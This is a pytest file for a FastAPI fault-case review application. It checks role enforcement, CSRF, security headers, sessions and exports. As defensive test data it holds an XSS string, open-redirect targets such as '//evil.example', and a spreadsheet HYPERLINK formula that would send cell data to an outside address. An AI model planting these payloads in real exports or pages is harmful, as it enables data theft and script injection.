"""The application by requests made by hand: roles of all routes, hostile strings, exports, headers."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from fastapi import FastAPI, Request
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from pipeline.accounts import ROLES, add_user, make_token
from pipeline.base.ids import axis_id
from pipeline.base.settings import Settings
from pipeline.cases.verdicts import get_case, give_verdict
from pipeline.store.database import Store
from pipeline.store.lake import Lake
from pipeline.store.tables import Axis, Case
from review.access import PUBLIC, Needs, source_of
from review.app import create_app
from review.calibration import reliability
from review.figures.signals import SCREEN_POINTS, envelope_of_points, highest_of_pieces
from review.limits import MOST_BYTES
from review.words import WORDS

AT = datetime(2026, 3, 1, tzinfo=UTC)
SQLITE = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)
"""For what does not depend on the database."""

EVIL = "<script>alert('x')</script>\"'&"


def add_case(store: Store, case_id: str = "case0000", text: str = "Fault probability 0.97.") -> None:
    axis = {
        "axis_id": axis_id(text, "c1", case_id, "A1"),
        "site": text,
        "cell": "c1",
        "robot_id": case_id,
        "axis": "A1",
        "known_at": AT,
    }
    case = {
        "case_id": case_id,
        "axis_id": axis["axis_id"],
        "family": "machine",
        "state": "open",
        "first_at": AT.replace(month=2),
        "last_at": AT.replace(month=2, day=2),
        "n_bins": 3,
        "priority": 0.9,
        "reasons": [{"code": "fault", "text": text, "first_at": "", "last_at": "", "n_bins": 1}],
        "fault_probability": 0.97,
        "mode": "inner_race",
        "known_at": AT,
        "changed_at": AT,
    }
    with store.write() as connection:
        connection.execute(sa.insert(Axis), axis | {"expected_every_s": None, "criticality": None})
        connection.execute(sa.insert(Case), case)


@pytest.fixture
def app(store: Store, lake: Lake, tmp_path: Path) -> FastAPI:
    """The application with one case and a user of each role, on both databases."""
    add_case(store)
    for role in ROLES:
        add_user(store, role, role, f"password of {role}", at=AT)
    return create_app(store, lake, Settings(home=tmp_path), clock=lambda: AT)


def client(app: FastAPI, role: str = "") -> TestClient:
    """A program that acts as the user of a role, or as nobody."""
    headers = {}
    if role:
        token = make_token(app.state.store, role, purpose="test", at=AT, days=1)
        headers = {"Authorization": f"Bearer {token}"}
    return TestClient(app, base_url="https://testserver", headers=headers, follow_redirects=False)


def routes(app: FastAPI) -> list[APIRoute]:
    """All routes, those of routers included."""
    found = []
    waiting = list(app.routes)
    while waiting:
        route = waiting.pop()
        if isinstance(route, APIRoute):
            found.append(route)
        else:
            inner = getattr(route, "original_router", None)
            assert inner is not None, f"{route!r} is no route that declares a role"
            waiting += inner.routes
    return found


def role_of(route: APIRoute) -> str | None:
    """The role that a route declares, None where it declares none."""
    return next((inner.call.role for inner in route.dependant.dependencies if isinstance(inner.call, Needs)), None)


def test_every_route_declares_its_role_and_keeps_to_it(app: FastAPI) -> None:
    walked = routes(app)
    assert len(walked) > 25
    asking = {role: client(app, role) for role in ("", *ROLES)}
    for route in walked:
        role = role_of(route)
        assert role in (PUBLIC, *ROLES), f"{route.path} declares no role"
        path = route.path if route.path.startswith("/api") or not route.path.startswith("//") else route.path[1:]
        for name in ("case_id", "axis_id", "recording_id", "act"):
            path = path.replace(f"{{{name}}}", "x")
        path = path.replace("{what}.{form}", "labels.csv").replace("{name}", "review.css")
        for method in route.methods:
            for asker, browser in asking.items():
                status = browser.request(method, path).status_code
                place = f"{method} {path} as {asker or 'nobody'}: {status}"
                may = role == PUBLIC or (asker and ROLES.index(asker) >= ROLES.index(role))
                if asker == "" and role != PUBLIC:
                    assert status == (401 if method != "GET" or path.startswith("/api") else 303), place
                elif not may:
                    assert status == 403, place
                else:
                    assert status not in (401, 500), place
                    assert status != 403 or path == "/login", place


@SQLITE
def test_a_write_of_a_browser_needs_the_sessions_word(app: FastAPI) -> None:
    browser = client(app)
    form = {"name": "reviewer", "password": "password of reviewer"}
    answer = browser.post("/login", data=form)
    assert answer.status_code == 303
    cookie = answer.headers["set-cookie"].lower()
    assert all(word in cookie for word in ("httponly", "secure", "samesite=strict"))
    assert browser.post("/cases/case0000/claim").status_code == 403
    assert browser.post("/cases/case0000/claim", data={"csrf": "guessed"}).status_code == 403
    assert get_case(app.state.store, "case0000")["events"] == []
    word = browser.get("/cases/case0000").text.split('name="csrf" value="')[1].split('"')[0]
    other = browser.post("/cases/case0000/claim", data={"csrf": word}, headers={"Origin": "https://evil.example"})
    assert other.status_code == 403
    assert browser.post("/cases/case0000/claim", data={"csrf": word}).status_code == 303
    assert [event["action"] for event in get_case(app.state.store, "case0000")["events"]] == ["claimed"]


@pytest.mark.parametrize(
    "target", ["//evil.example", "/\\evil.example", "https://evil.example", "evil.example", "/a\nb"]
)
@SQLITE
def test_a_log_in_leads_nowhere_else(app: FastAPI, target: str) -> None:
    form = {"name": "reviewer", "password": "password of reviewer"}
    assert client(app).post("/login", params={"next": target}, data=form).headers["location"] == "/"
    assert client(app).post("/login", params={"next": "/fleet"}, data=form).headers["location"] == "/fleet"


@SQLITE
def test_every_answer_has_the_headers_that_protect(app: FastAPI) -> None:
    """Pages, the interface, errors, and what is served to nobody in particular."""
    browser = client(app, "viewer")
    paths = (
        "/",
        "/fleet",
        "/login",
        "/static/review.css",
        "/api/v1/cases",
        "/api/v1/health",
        "/cases/none",
        "/nowhere",
    )
    for path in paths:
        headers = browser.get(path).headers
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] == "same-origin", path
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy, path
        assert "frame-ancestors 'self'" in policy, path
        assert "unsafe" not in policy, path
        assert headers["cache-control"] == ("no-cache" if path.startswith("/static") else "no-store"), path


@SQLITE
def test_a_form_brings_no_file(app: FastAPI) -> None:
    answer = client(app, "reviewer").post("/cases/case0000/comment", files={"text": ("a.txt", b"from a file")})
    assert 400 <= answer.status_code < 500
    assert get_case(app.state.store, "case0000")["events"] == []


@SQLITE
def test_a_session_is_over_in_time_and_after_log_out(store: Store, lake: Lake, tmp_path: Path) -> None:
    """And the cookie of before the log-out opens nothing when it is sent again."""
    moment = [AT]
    add_user(store, "mara", "reviewer", "a long password", at=AT)
    settings = Settings(home=tmp_path)
    browser = client(create_app(store, lake, settings, clock=lambda: moment[0]))
    form = {"name": "mara", "password": "a long password"}
    assert browser.post("/login", data=form).status_code == 303
    cookies = dict(browser.cookies)
    word = browser.get("/").text.split('name="csrf" value="')[1].split('"')[0]
    assert browser.get("/api/v1/me").status_code == 200
    assert browser.post("/logout").status_code == 403, "a log-out is a write, too"
    assert browser.get("/api/v1/me").status_code == 200
    assert browser.post("/logout", data={"csrf": word}).status_code == 303
    browser.cookies.update(cookies)
    assert browser.get("/api/v1/me").status_code == 401
    browser.cookies.clear()
    assert browser.post("/login", data=form).status_code == 303
    moment[0] = AT + timedelta(hours=settings.review_session_hours)
    assert browser.get("/api/v1/me").status_code == 401


def test_hostile_strings_are_text(app: FastAPI) -> None:
    add_case(app.state.store, "case0001", EVIL)
    browser = client(app, "reviewer")
    assert browser.post("/cases/case0001/comment", data={"text": EVIL}).status_code == 303
    assert browser.post("/cases/case0001/work-order", data={"number": EVIL}).status_code == 303
    finding = {"verdict": "fault", "evidence": "inspected", "note": EVIL}
    assert browser.post("/cases/case0001/verdict", data=finding).status_code == 303
    for path in (
        "/?state=all",
        "/cases/case0001",
        "/fleet",
        f"/axes/{axis_id(EVIL, 'c1', 'case0001', 'A1')}",
        f"/?search={EVIL}",
        f"/?site={EVIL}",
    ):
        answer = browser.get(path)
        assert answer.status_code == 200
        assert "<script>alert" not in answer.text
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self';" in policy
        assert "script-src 'self' 'unsafe" not in policy
        assert "<script>" not in answer.text, "no script of a page's own"


@SQLITE
def test_what_is_wrong_is_said(app: FastAPI) -> None:
    browser = client(app, "reviewer")
    answer = browser.post("/api/v1/cases/case0000/verdict", json={"verdict": "haunted", "evidence": "inspected"})
    assert answer.status_code == 409
    assert "verdict is 'haunted'" in answer.json()["detail"]
    assert browser.get("/api/v1/cases/none").status_code == 404
    assert "nothing at this address" in browser.get("/api/v1/haunt").json()["detail"]
    assert "another method" in browser.get("/api/v1/bulk/verdict").json()["detail"]
    assert browser.get("/cases/none").status_code == 404
    assert browser.get("/?after=nonsense").status_code == 409
    assert browser.post("/cases/case0000/haunt").status_code == 404


def test_exports_hold_every_label_and_case(app: FastAPI) -> None:
    finding = {"verdict": "fault", "evidence": "inspected", "note": 'a "quoted", note'}
    give_verdict(app.state.store, "case0000", finding, who="mara", at=AT, period_hours=1)
    browser = client(app, "viewer")
    rows = list(csv.DictReader(io.StringIO(browser.get("/api/v1/export/labels.csv").text)))
    assert [(row["robot_id"], row["verdict"], row["note"]) for row in rows] == [("case0000", "fault", finding["note"])]
    table = pq.read_table(io.BytesIO(browser.get("/api/v1/export/cases.parquet").content))
    assert table.column("case_id").to_pylist() == ["case0000"]
    assert table.column("state").to_pylist() == ["closed"]
    told = browser.get("/api/v1/metrics").text
    assert 'axiswatch_cases{state="closed"} 1.0' in told
    assert "axiswatch_monitor_silent 0.0" in told
    assert reliability(app.state.store) == [{"from": 0.9, "to": 1.0, "said": 0.97, "found": 1.0, "n": 1}]


def test_reliability_weighs_by_the_chance_of_selection(app: FastAPI) -> None:
    """One case that was flagged and one drawn with a chance of a quarter: the second speaks for four."""
    store = app.state.store
    with store.write() as connection:
        case = dict(connection.execute(sa.select(Case).where(Case.case_id == "case0000")).one()._mapping)
        drawn = {"case_id": "drawn", "family": "audit", "fault_probability": 0.92, "selection_probability": 0.25}
        connection.execute(sa.insert(Case), case | drawn)
    for name, verdict in (("case0000", "fault"), ("drawn", "healthy")):
        give_verdict(store, name, {"verdict": verdict, "evidence": "inspected"}, who="mara", at=AT, period_hours=1)
    (found,) = reliability(store)
    assert (found["found"], found["n"]) == (pytest.approx(1 / 5), 2)
    assert found["said"] == pytest.approx((0.97 + 4 * 0.92) / 5)


@SQLITE
def test_every_path_of_the_interface_is_described(app: FastAPI) -> None:
    told = client(app, "viewer").get("/api/v1/openapi.json").json()["paths"]
    wanted = {route.path for route in routes(app) if route.include_in_schema}
    assert {path.removeprefix("/api/v1") for path in told} == {path.removeprefix("/api/v1") for path in wanted}


def test_no_peak_is_lost_on_the_screen() -> None:
    rng = np.random.default_rng(1)
    signal = rng.normal(0, 1, 1_000_000).astype(np.float32)
    signal[[123_457, 765_431]] = 50, -60
    places, values = envelope_of_points(signal, 0, len(signal))
    assert len(places) <= 2 * SCREEN_POINTS
    assert places == sorted(places)
    assert (max(values), min(values)) == (50, -60)
    assert {123_457, 765_431} <= set(places)
    hz, lines = highest_of_pieces(np.abs(signal), 0.5)
    assert (max(lines), hz[int(np.argmax(lines))]) == (60, 765_431 * 0.5)


def test_every_word_is_there_in_both_languages() -> None:
    assert all(set(words) == {"en", "ko"} and all(words.values()) for words in WORDS.values())
    templates = Path(__file__).parents[2] / "review" / "templates"
    import re

    used = {
        key
        for path in templates.glob("*.html")
        for key in re.findall(r'\bt\(["\'](\w+)["\']\)', path.read_text("utf-8"))
    }
    assert used
    assert used <= set(WORDS)


def test_an_axis_lists_its_cases_however_many_its_robot_has(app: FastAPI) -> None:
    """Cases of another axis of the robot, all before it in the queue, do not push its own ones out."""
    store = app.state.store
    with store.write() as connection:
        case = dict(connection.execute(sa.select(Case).where(Case.case_id == "case0000")).one()._mapping)
        axis = dict(connection.execute(sa.select(Axis).where(Axis.axis_id == case["axis_id"])).one()._mapping)
        connection.execute(sa.insert(Axis), axis | {"axis_id": "busy", "axis": "A2"})
        more = [case | {"case_id": f"busy{n:04d}", "axis_id": "busy", "priority": 0.99} for n in range(60)]
        connection.execute(sa.insert(Case), [{k: v for k, v in row.items() if k != "queue_priority"} for row in more])
    shown = client(app, "viewer").get(f"/axes/{case['axis_id']}").text
    assert "/cases/case0000" in shown
    assert "/cases/busy" not in shown


def test_bulk_gives_what_it_can_and_says_what_it_cannot(app: FastAPI) -> None:
    store, browser = app.state.store, client(app, "reviewer")
    add_case(store, "case0001", "another plant")
    form = {"case": ["case0000", "none", "case0001"], "verdict": "fault", "evidence": "inspected", "mode": "ball"}
    answer = browser.post("/bulk", data=form)
    assert (answer.status_code, "there is no case none" in answer.text) == (409, True)
    assert [get_case(store, case)["state"] for case in ("case0000", "case0001")] == ["closed", "closed"]
    back = browser.post("/bulk/undo", data={"case": ["case0000", "case0001"]})
    assert back.headers["location"] == "/?undone=case0000%2Ccase0001"
    assert [get_case(store, case)["state"] for case in ("case0000", "case0001")] == ["open", "open"]
    again = browser.post("/bulk?mine=1", data=form | {"case": ["case0000"]})
    assert again.headers["location"] == "/?mine=1&recorded=case0000"
    assert browser.post("/bulk/undo", data={"case": ["case0001"]}).status_code == 409


def test_a_snooze_says_until_when(app: FastAPI) -> None:
    browser = client(app, "reviewer")
    assert browser.post("/cases/case0000/snooze", data={"when": "date", "until": ""}).status_code == 409
    assert get_case(app.state.store, "case0000")["state"] == "open"
    worse = {"when": "worse", "until": "2026-03-09T08:00"}
    assert browser.post("/cases/case0000/snooze", data=worse).status_code == 303
    assert get_case(app.state.store, "case0000")["snoozed_until"] is None
    dated = {"when": "date", "until": "2026-03-09T08:00:00+09:00"}
    assert browser.post("/cases/case0000/snooze", data=dated).status_code == 303
    assert get_case(app.state.store, "case0000")["snoozed_until"] == datetime(2026, 3, 8, 23, tzinfo=UTC)


def test_figures_of_a_channel_that_is_not_there_are_refused(app: FastAPI) -> None:
    browser = client(app, "viewer")
    assert browser.get("/api/v1/cases/case0000/figures").json()["recording"] is None
    answer = browser.get("/api/v1/cases/case0000/figures?channel=acc_z")
    assert (answer.status_code, "acc_z" in answer.json()["detail"]) == (404, True)


@SQLITE
@pytest.mark.parametrize("path", ["/login", "/api/v1/cases/case0000/comment", "/nowhere"])
@pytest.mark.parametrize("declared", [True, False], ids=["with its length", "in pieces"])
def test_a_body_that_is_too_long_is_refused_before_anybody_is_asked_who_sends_it(
    app: FastAPI, path: str, declared: bool
) -> None:
    sent = 0

    def pieces() -> Iterator[bytes]:
        nonlocal sent
        for _ in range(10_000):
            sent += 64 * 1024
            yield b"x" * 64 * 1024

    body = b"x" * (MOST_BYTES + 1) if declared else pieces()
    answer = client(app).post(path, content=body, headers={"Content-Type": "application/json"})
    assert (answer.status_code, "256 kB" in answer.json()["detail"]) == (413, True)
    longest = {"text": "y" * 4000}
    assert client(app, "reviewer").post("/api/v1/cases/case0000/comment", json=longest).status_code == 200


@SQLITE
@pytest.mark.parametrize("after", ["1~0001-01-01T00:00:00+14:00~x", "nan~2026-01-01T00:00:00+00:00~x", "x" * 9000])
def test_an_impossible_place_in_the_queue_is_refused(app: FastAPI, after: str) -> None:
    for path in ("/", "/api/v1/cases"):
        answer = client(app, "viewer").get(path, params={"after": after})
        assert answer.status_code == 409
        assert len(answer.text) < 20_000


def test_an_exported_csv_runs_nothing_in_a_spreadsheet(app: FastAPI) -> None:
    note = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    finding = {"verdict": "fault", "evidence": "inspected", "note": note}
    give_verdict(app.state.store, "case0000", finding, who="@mara", at=AT, period_hours=1.0)
    rows = list(csv.DictReader(io.StringIO(client(app, "viewer").get("/api/v1/export/labels.csv").text)))
    assert (rows[0]["note"], rows[0]["who"]) == (f"'{note}", "'@mara")
    table = pq.read_table(io.BytesIO(client(app, "viewer").get("/api/v1/export/labels.parquet").content))
    assert table["note"].to_pylist() == [note]


def test_addresses_are_told_apart_and_an_ipv6_customer_is_one() -> None:
    def of(host: str | None) -> str:
        return source_of(Request({"type": "http", "client": None if host is None else (host, 1), "headers": []}))

    assert of("192.0.2.1") == "192.0.2.1"
    assert of("2001:db8:1:2:3::4") == of("2001:db8:1:2:ffff::1") == "2001:db8:1:2::/64"
    assert of("2001:db8:1:3::1") != of("2001:db8:1:2::1")
    assert (of(None), of("testclient")) == ("", "testclient")
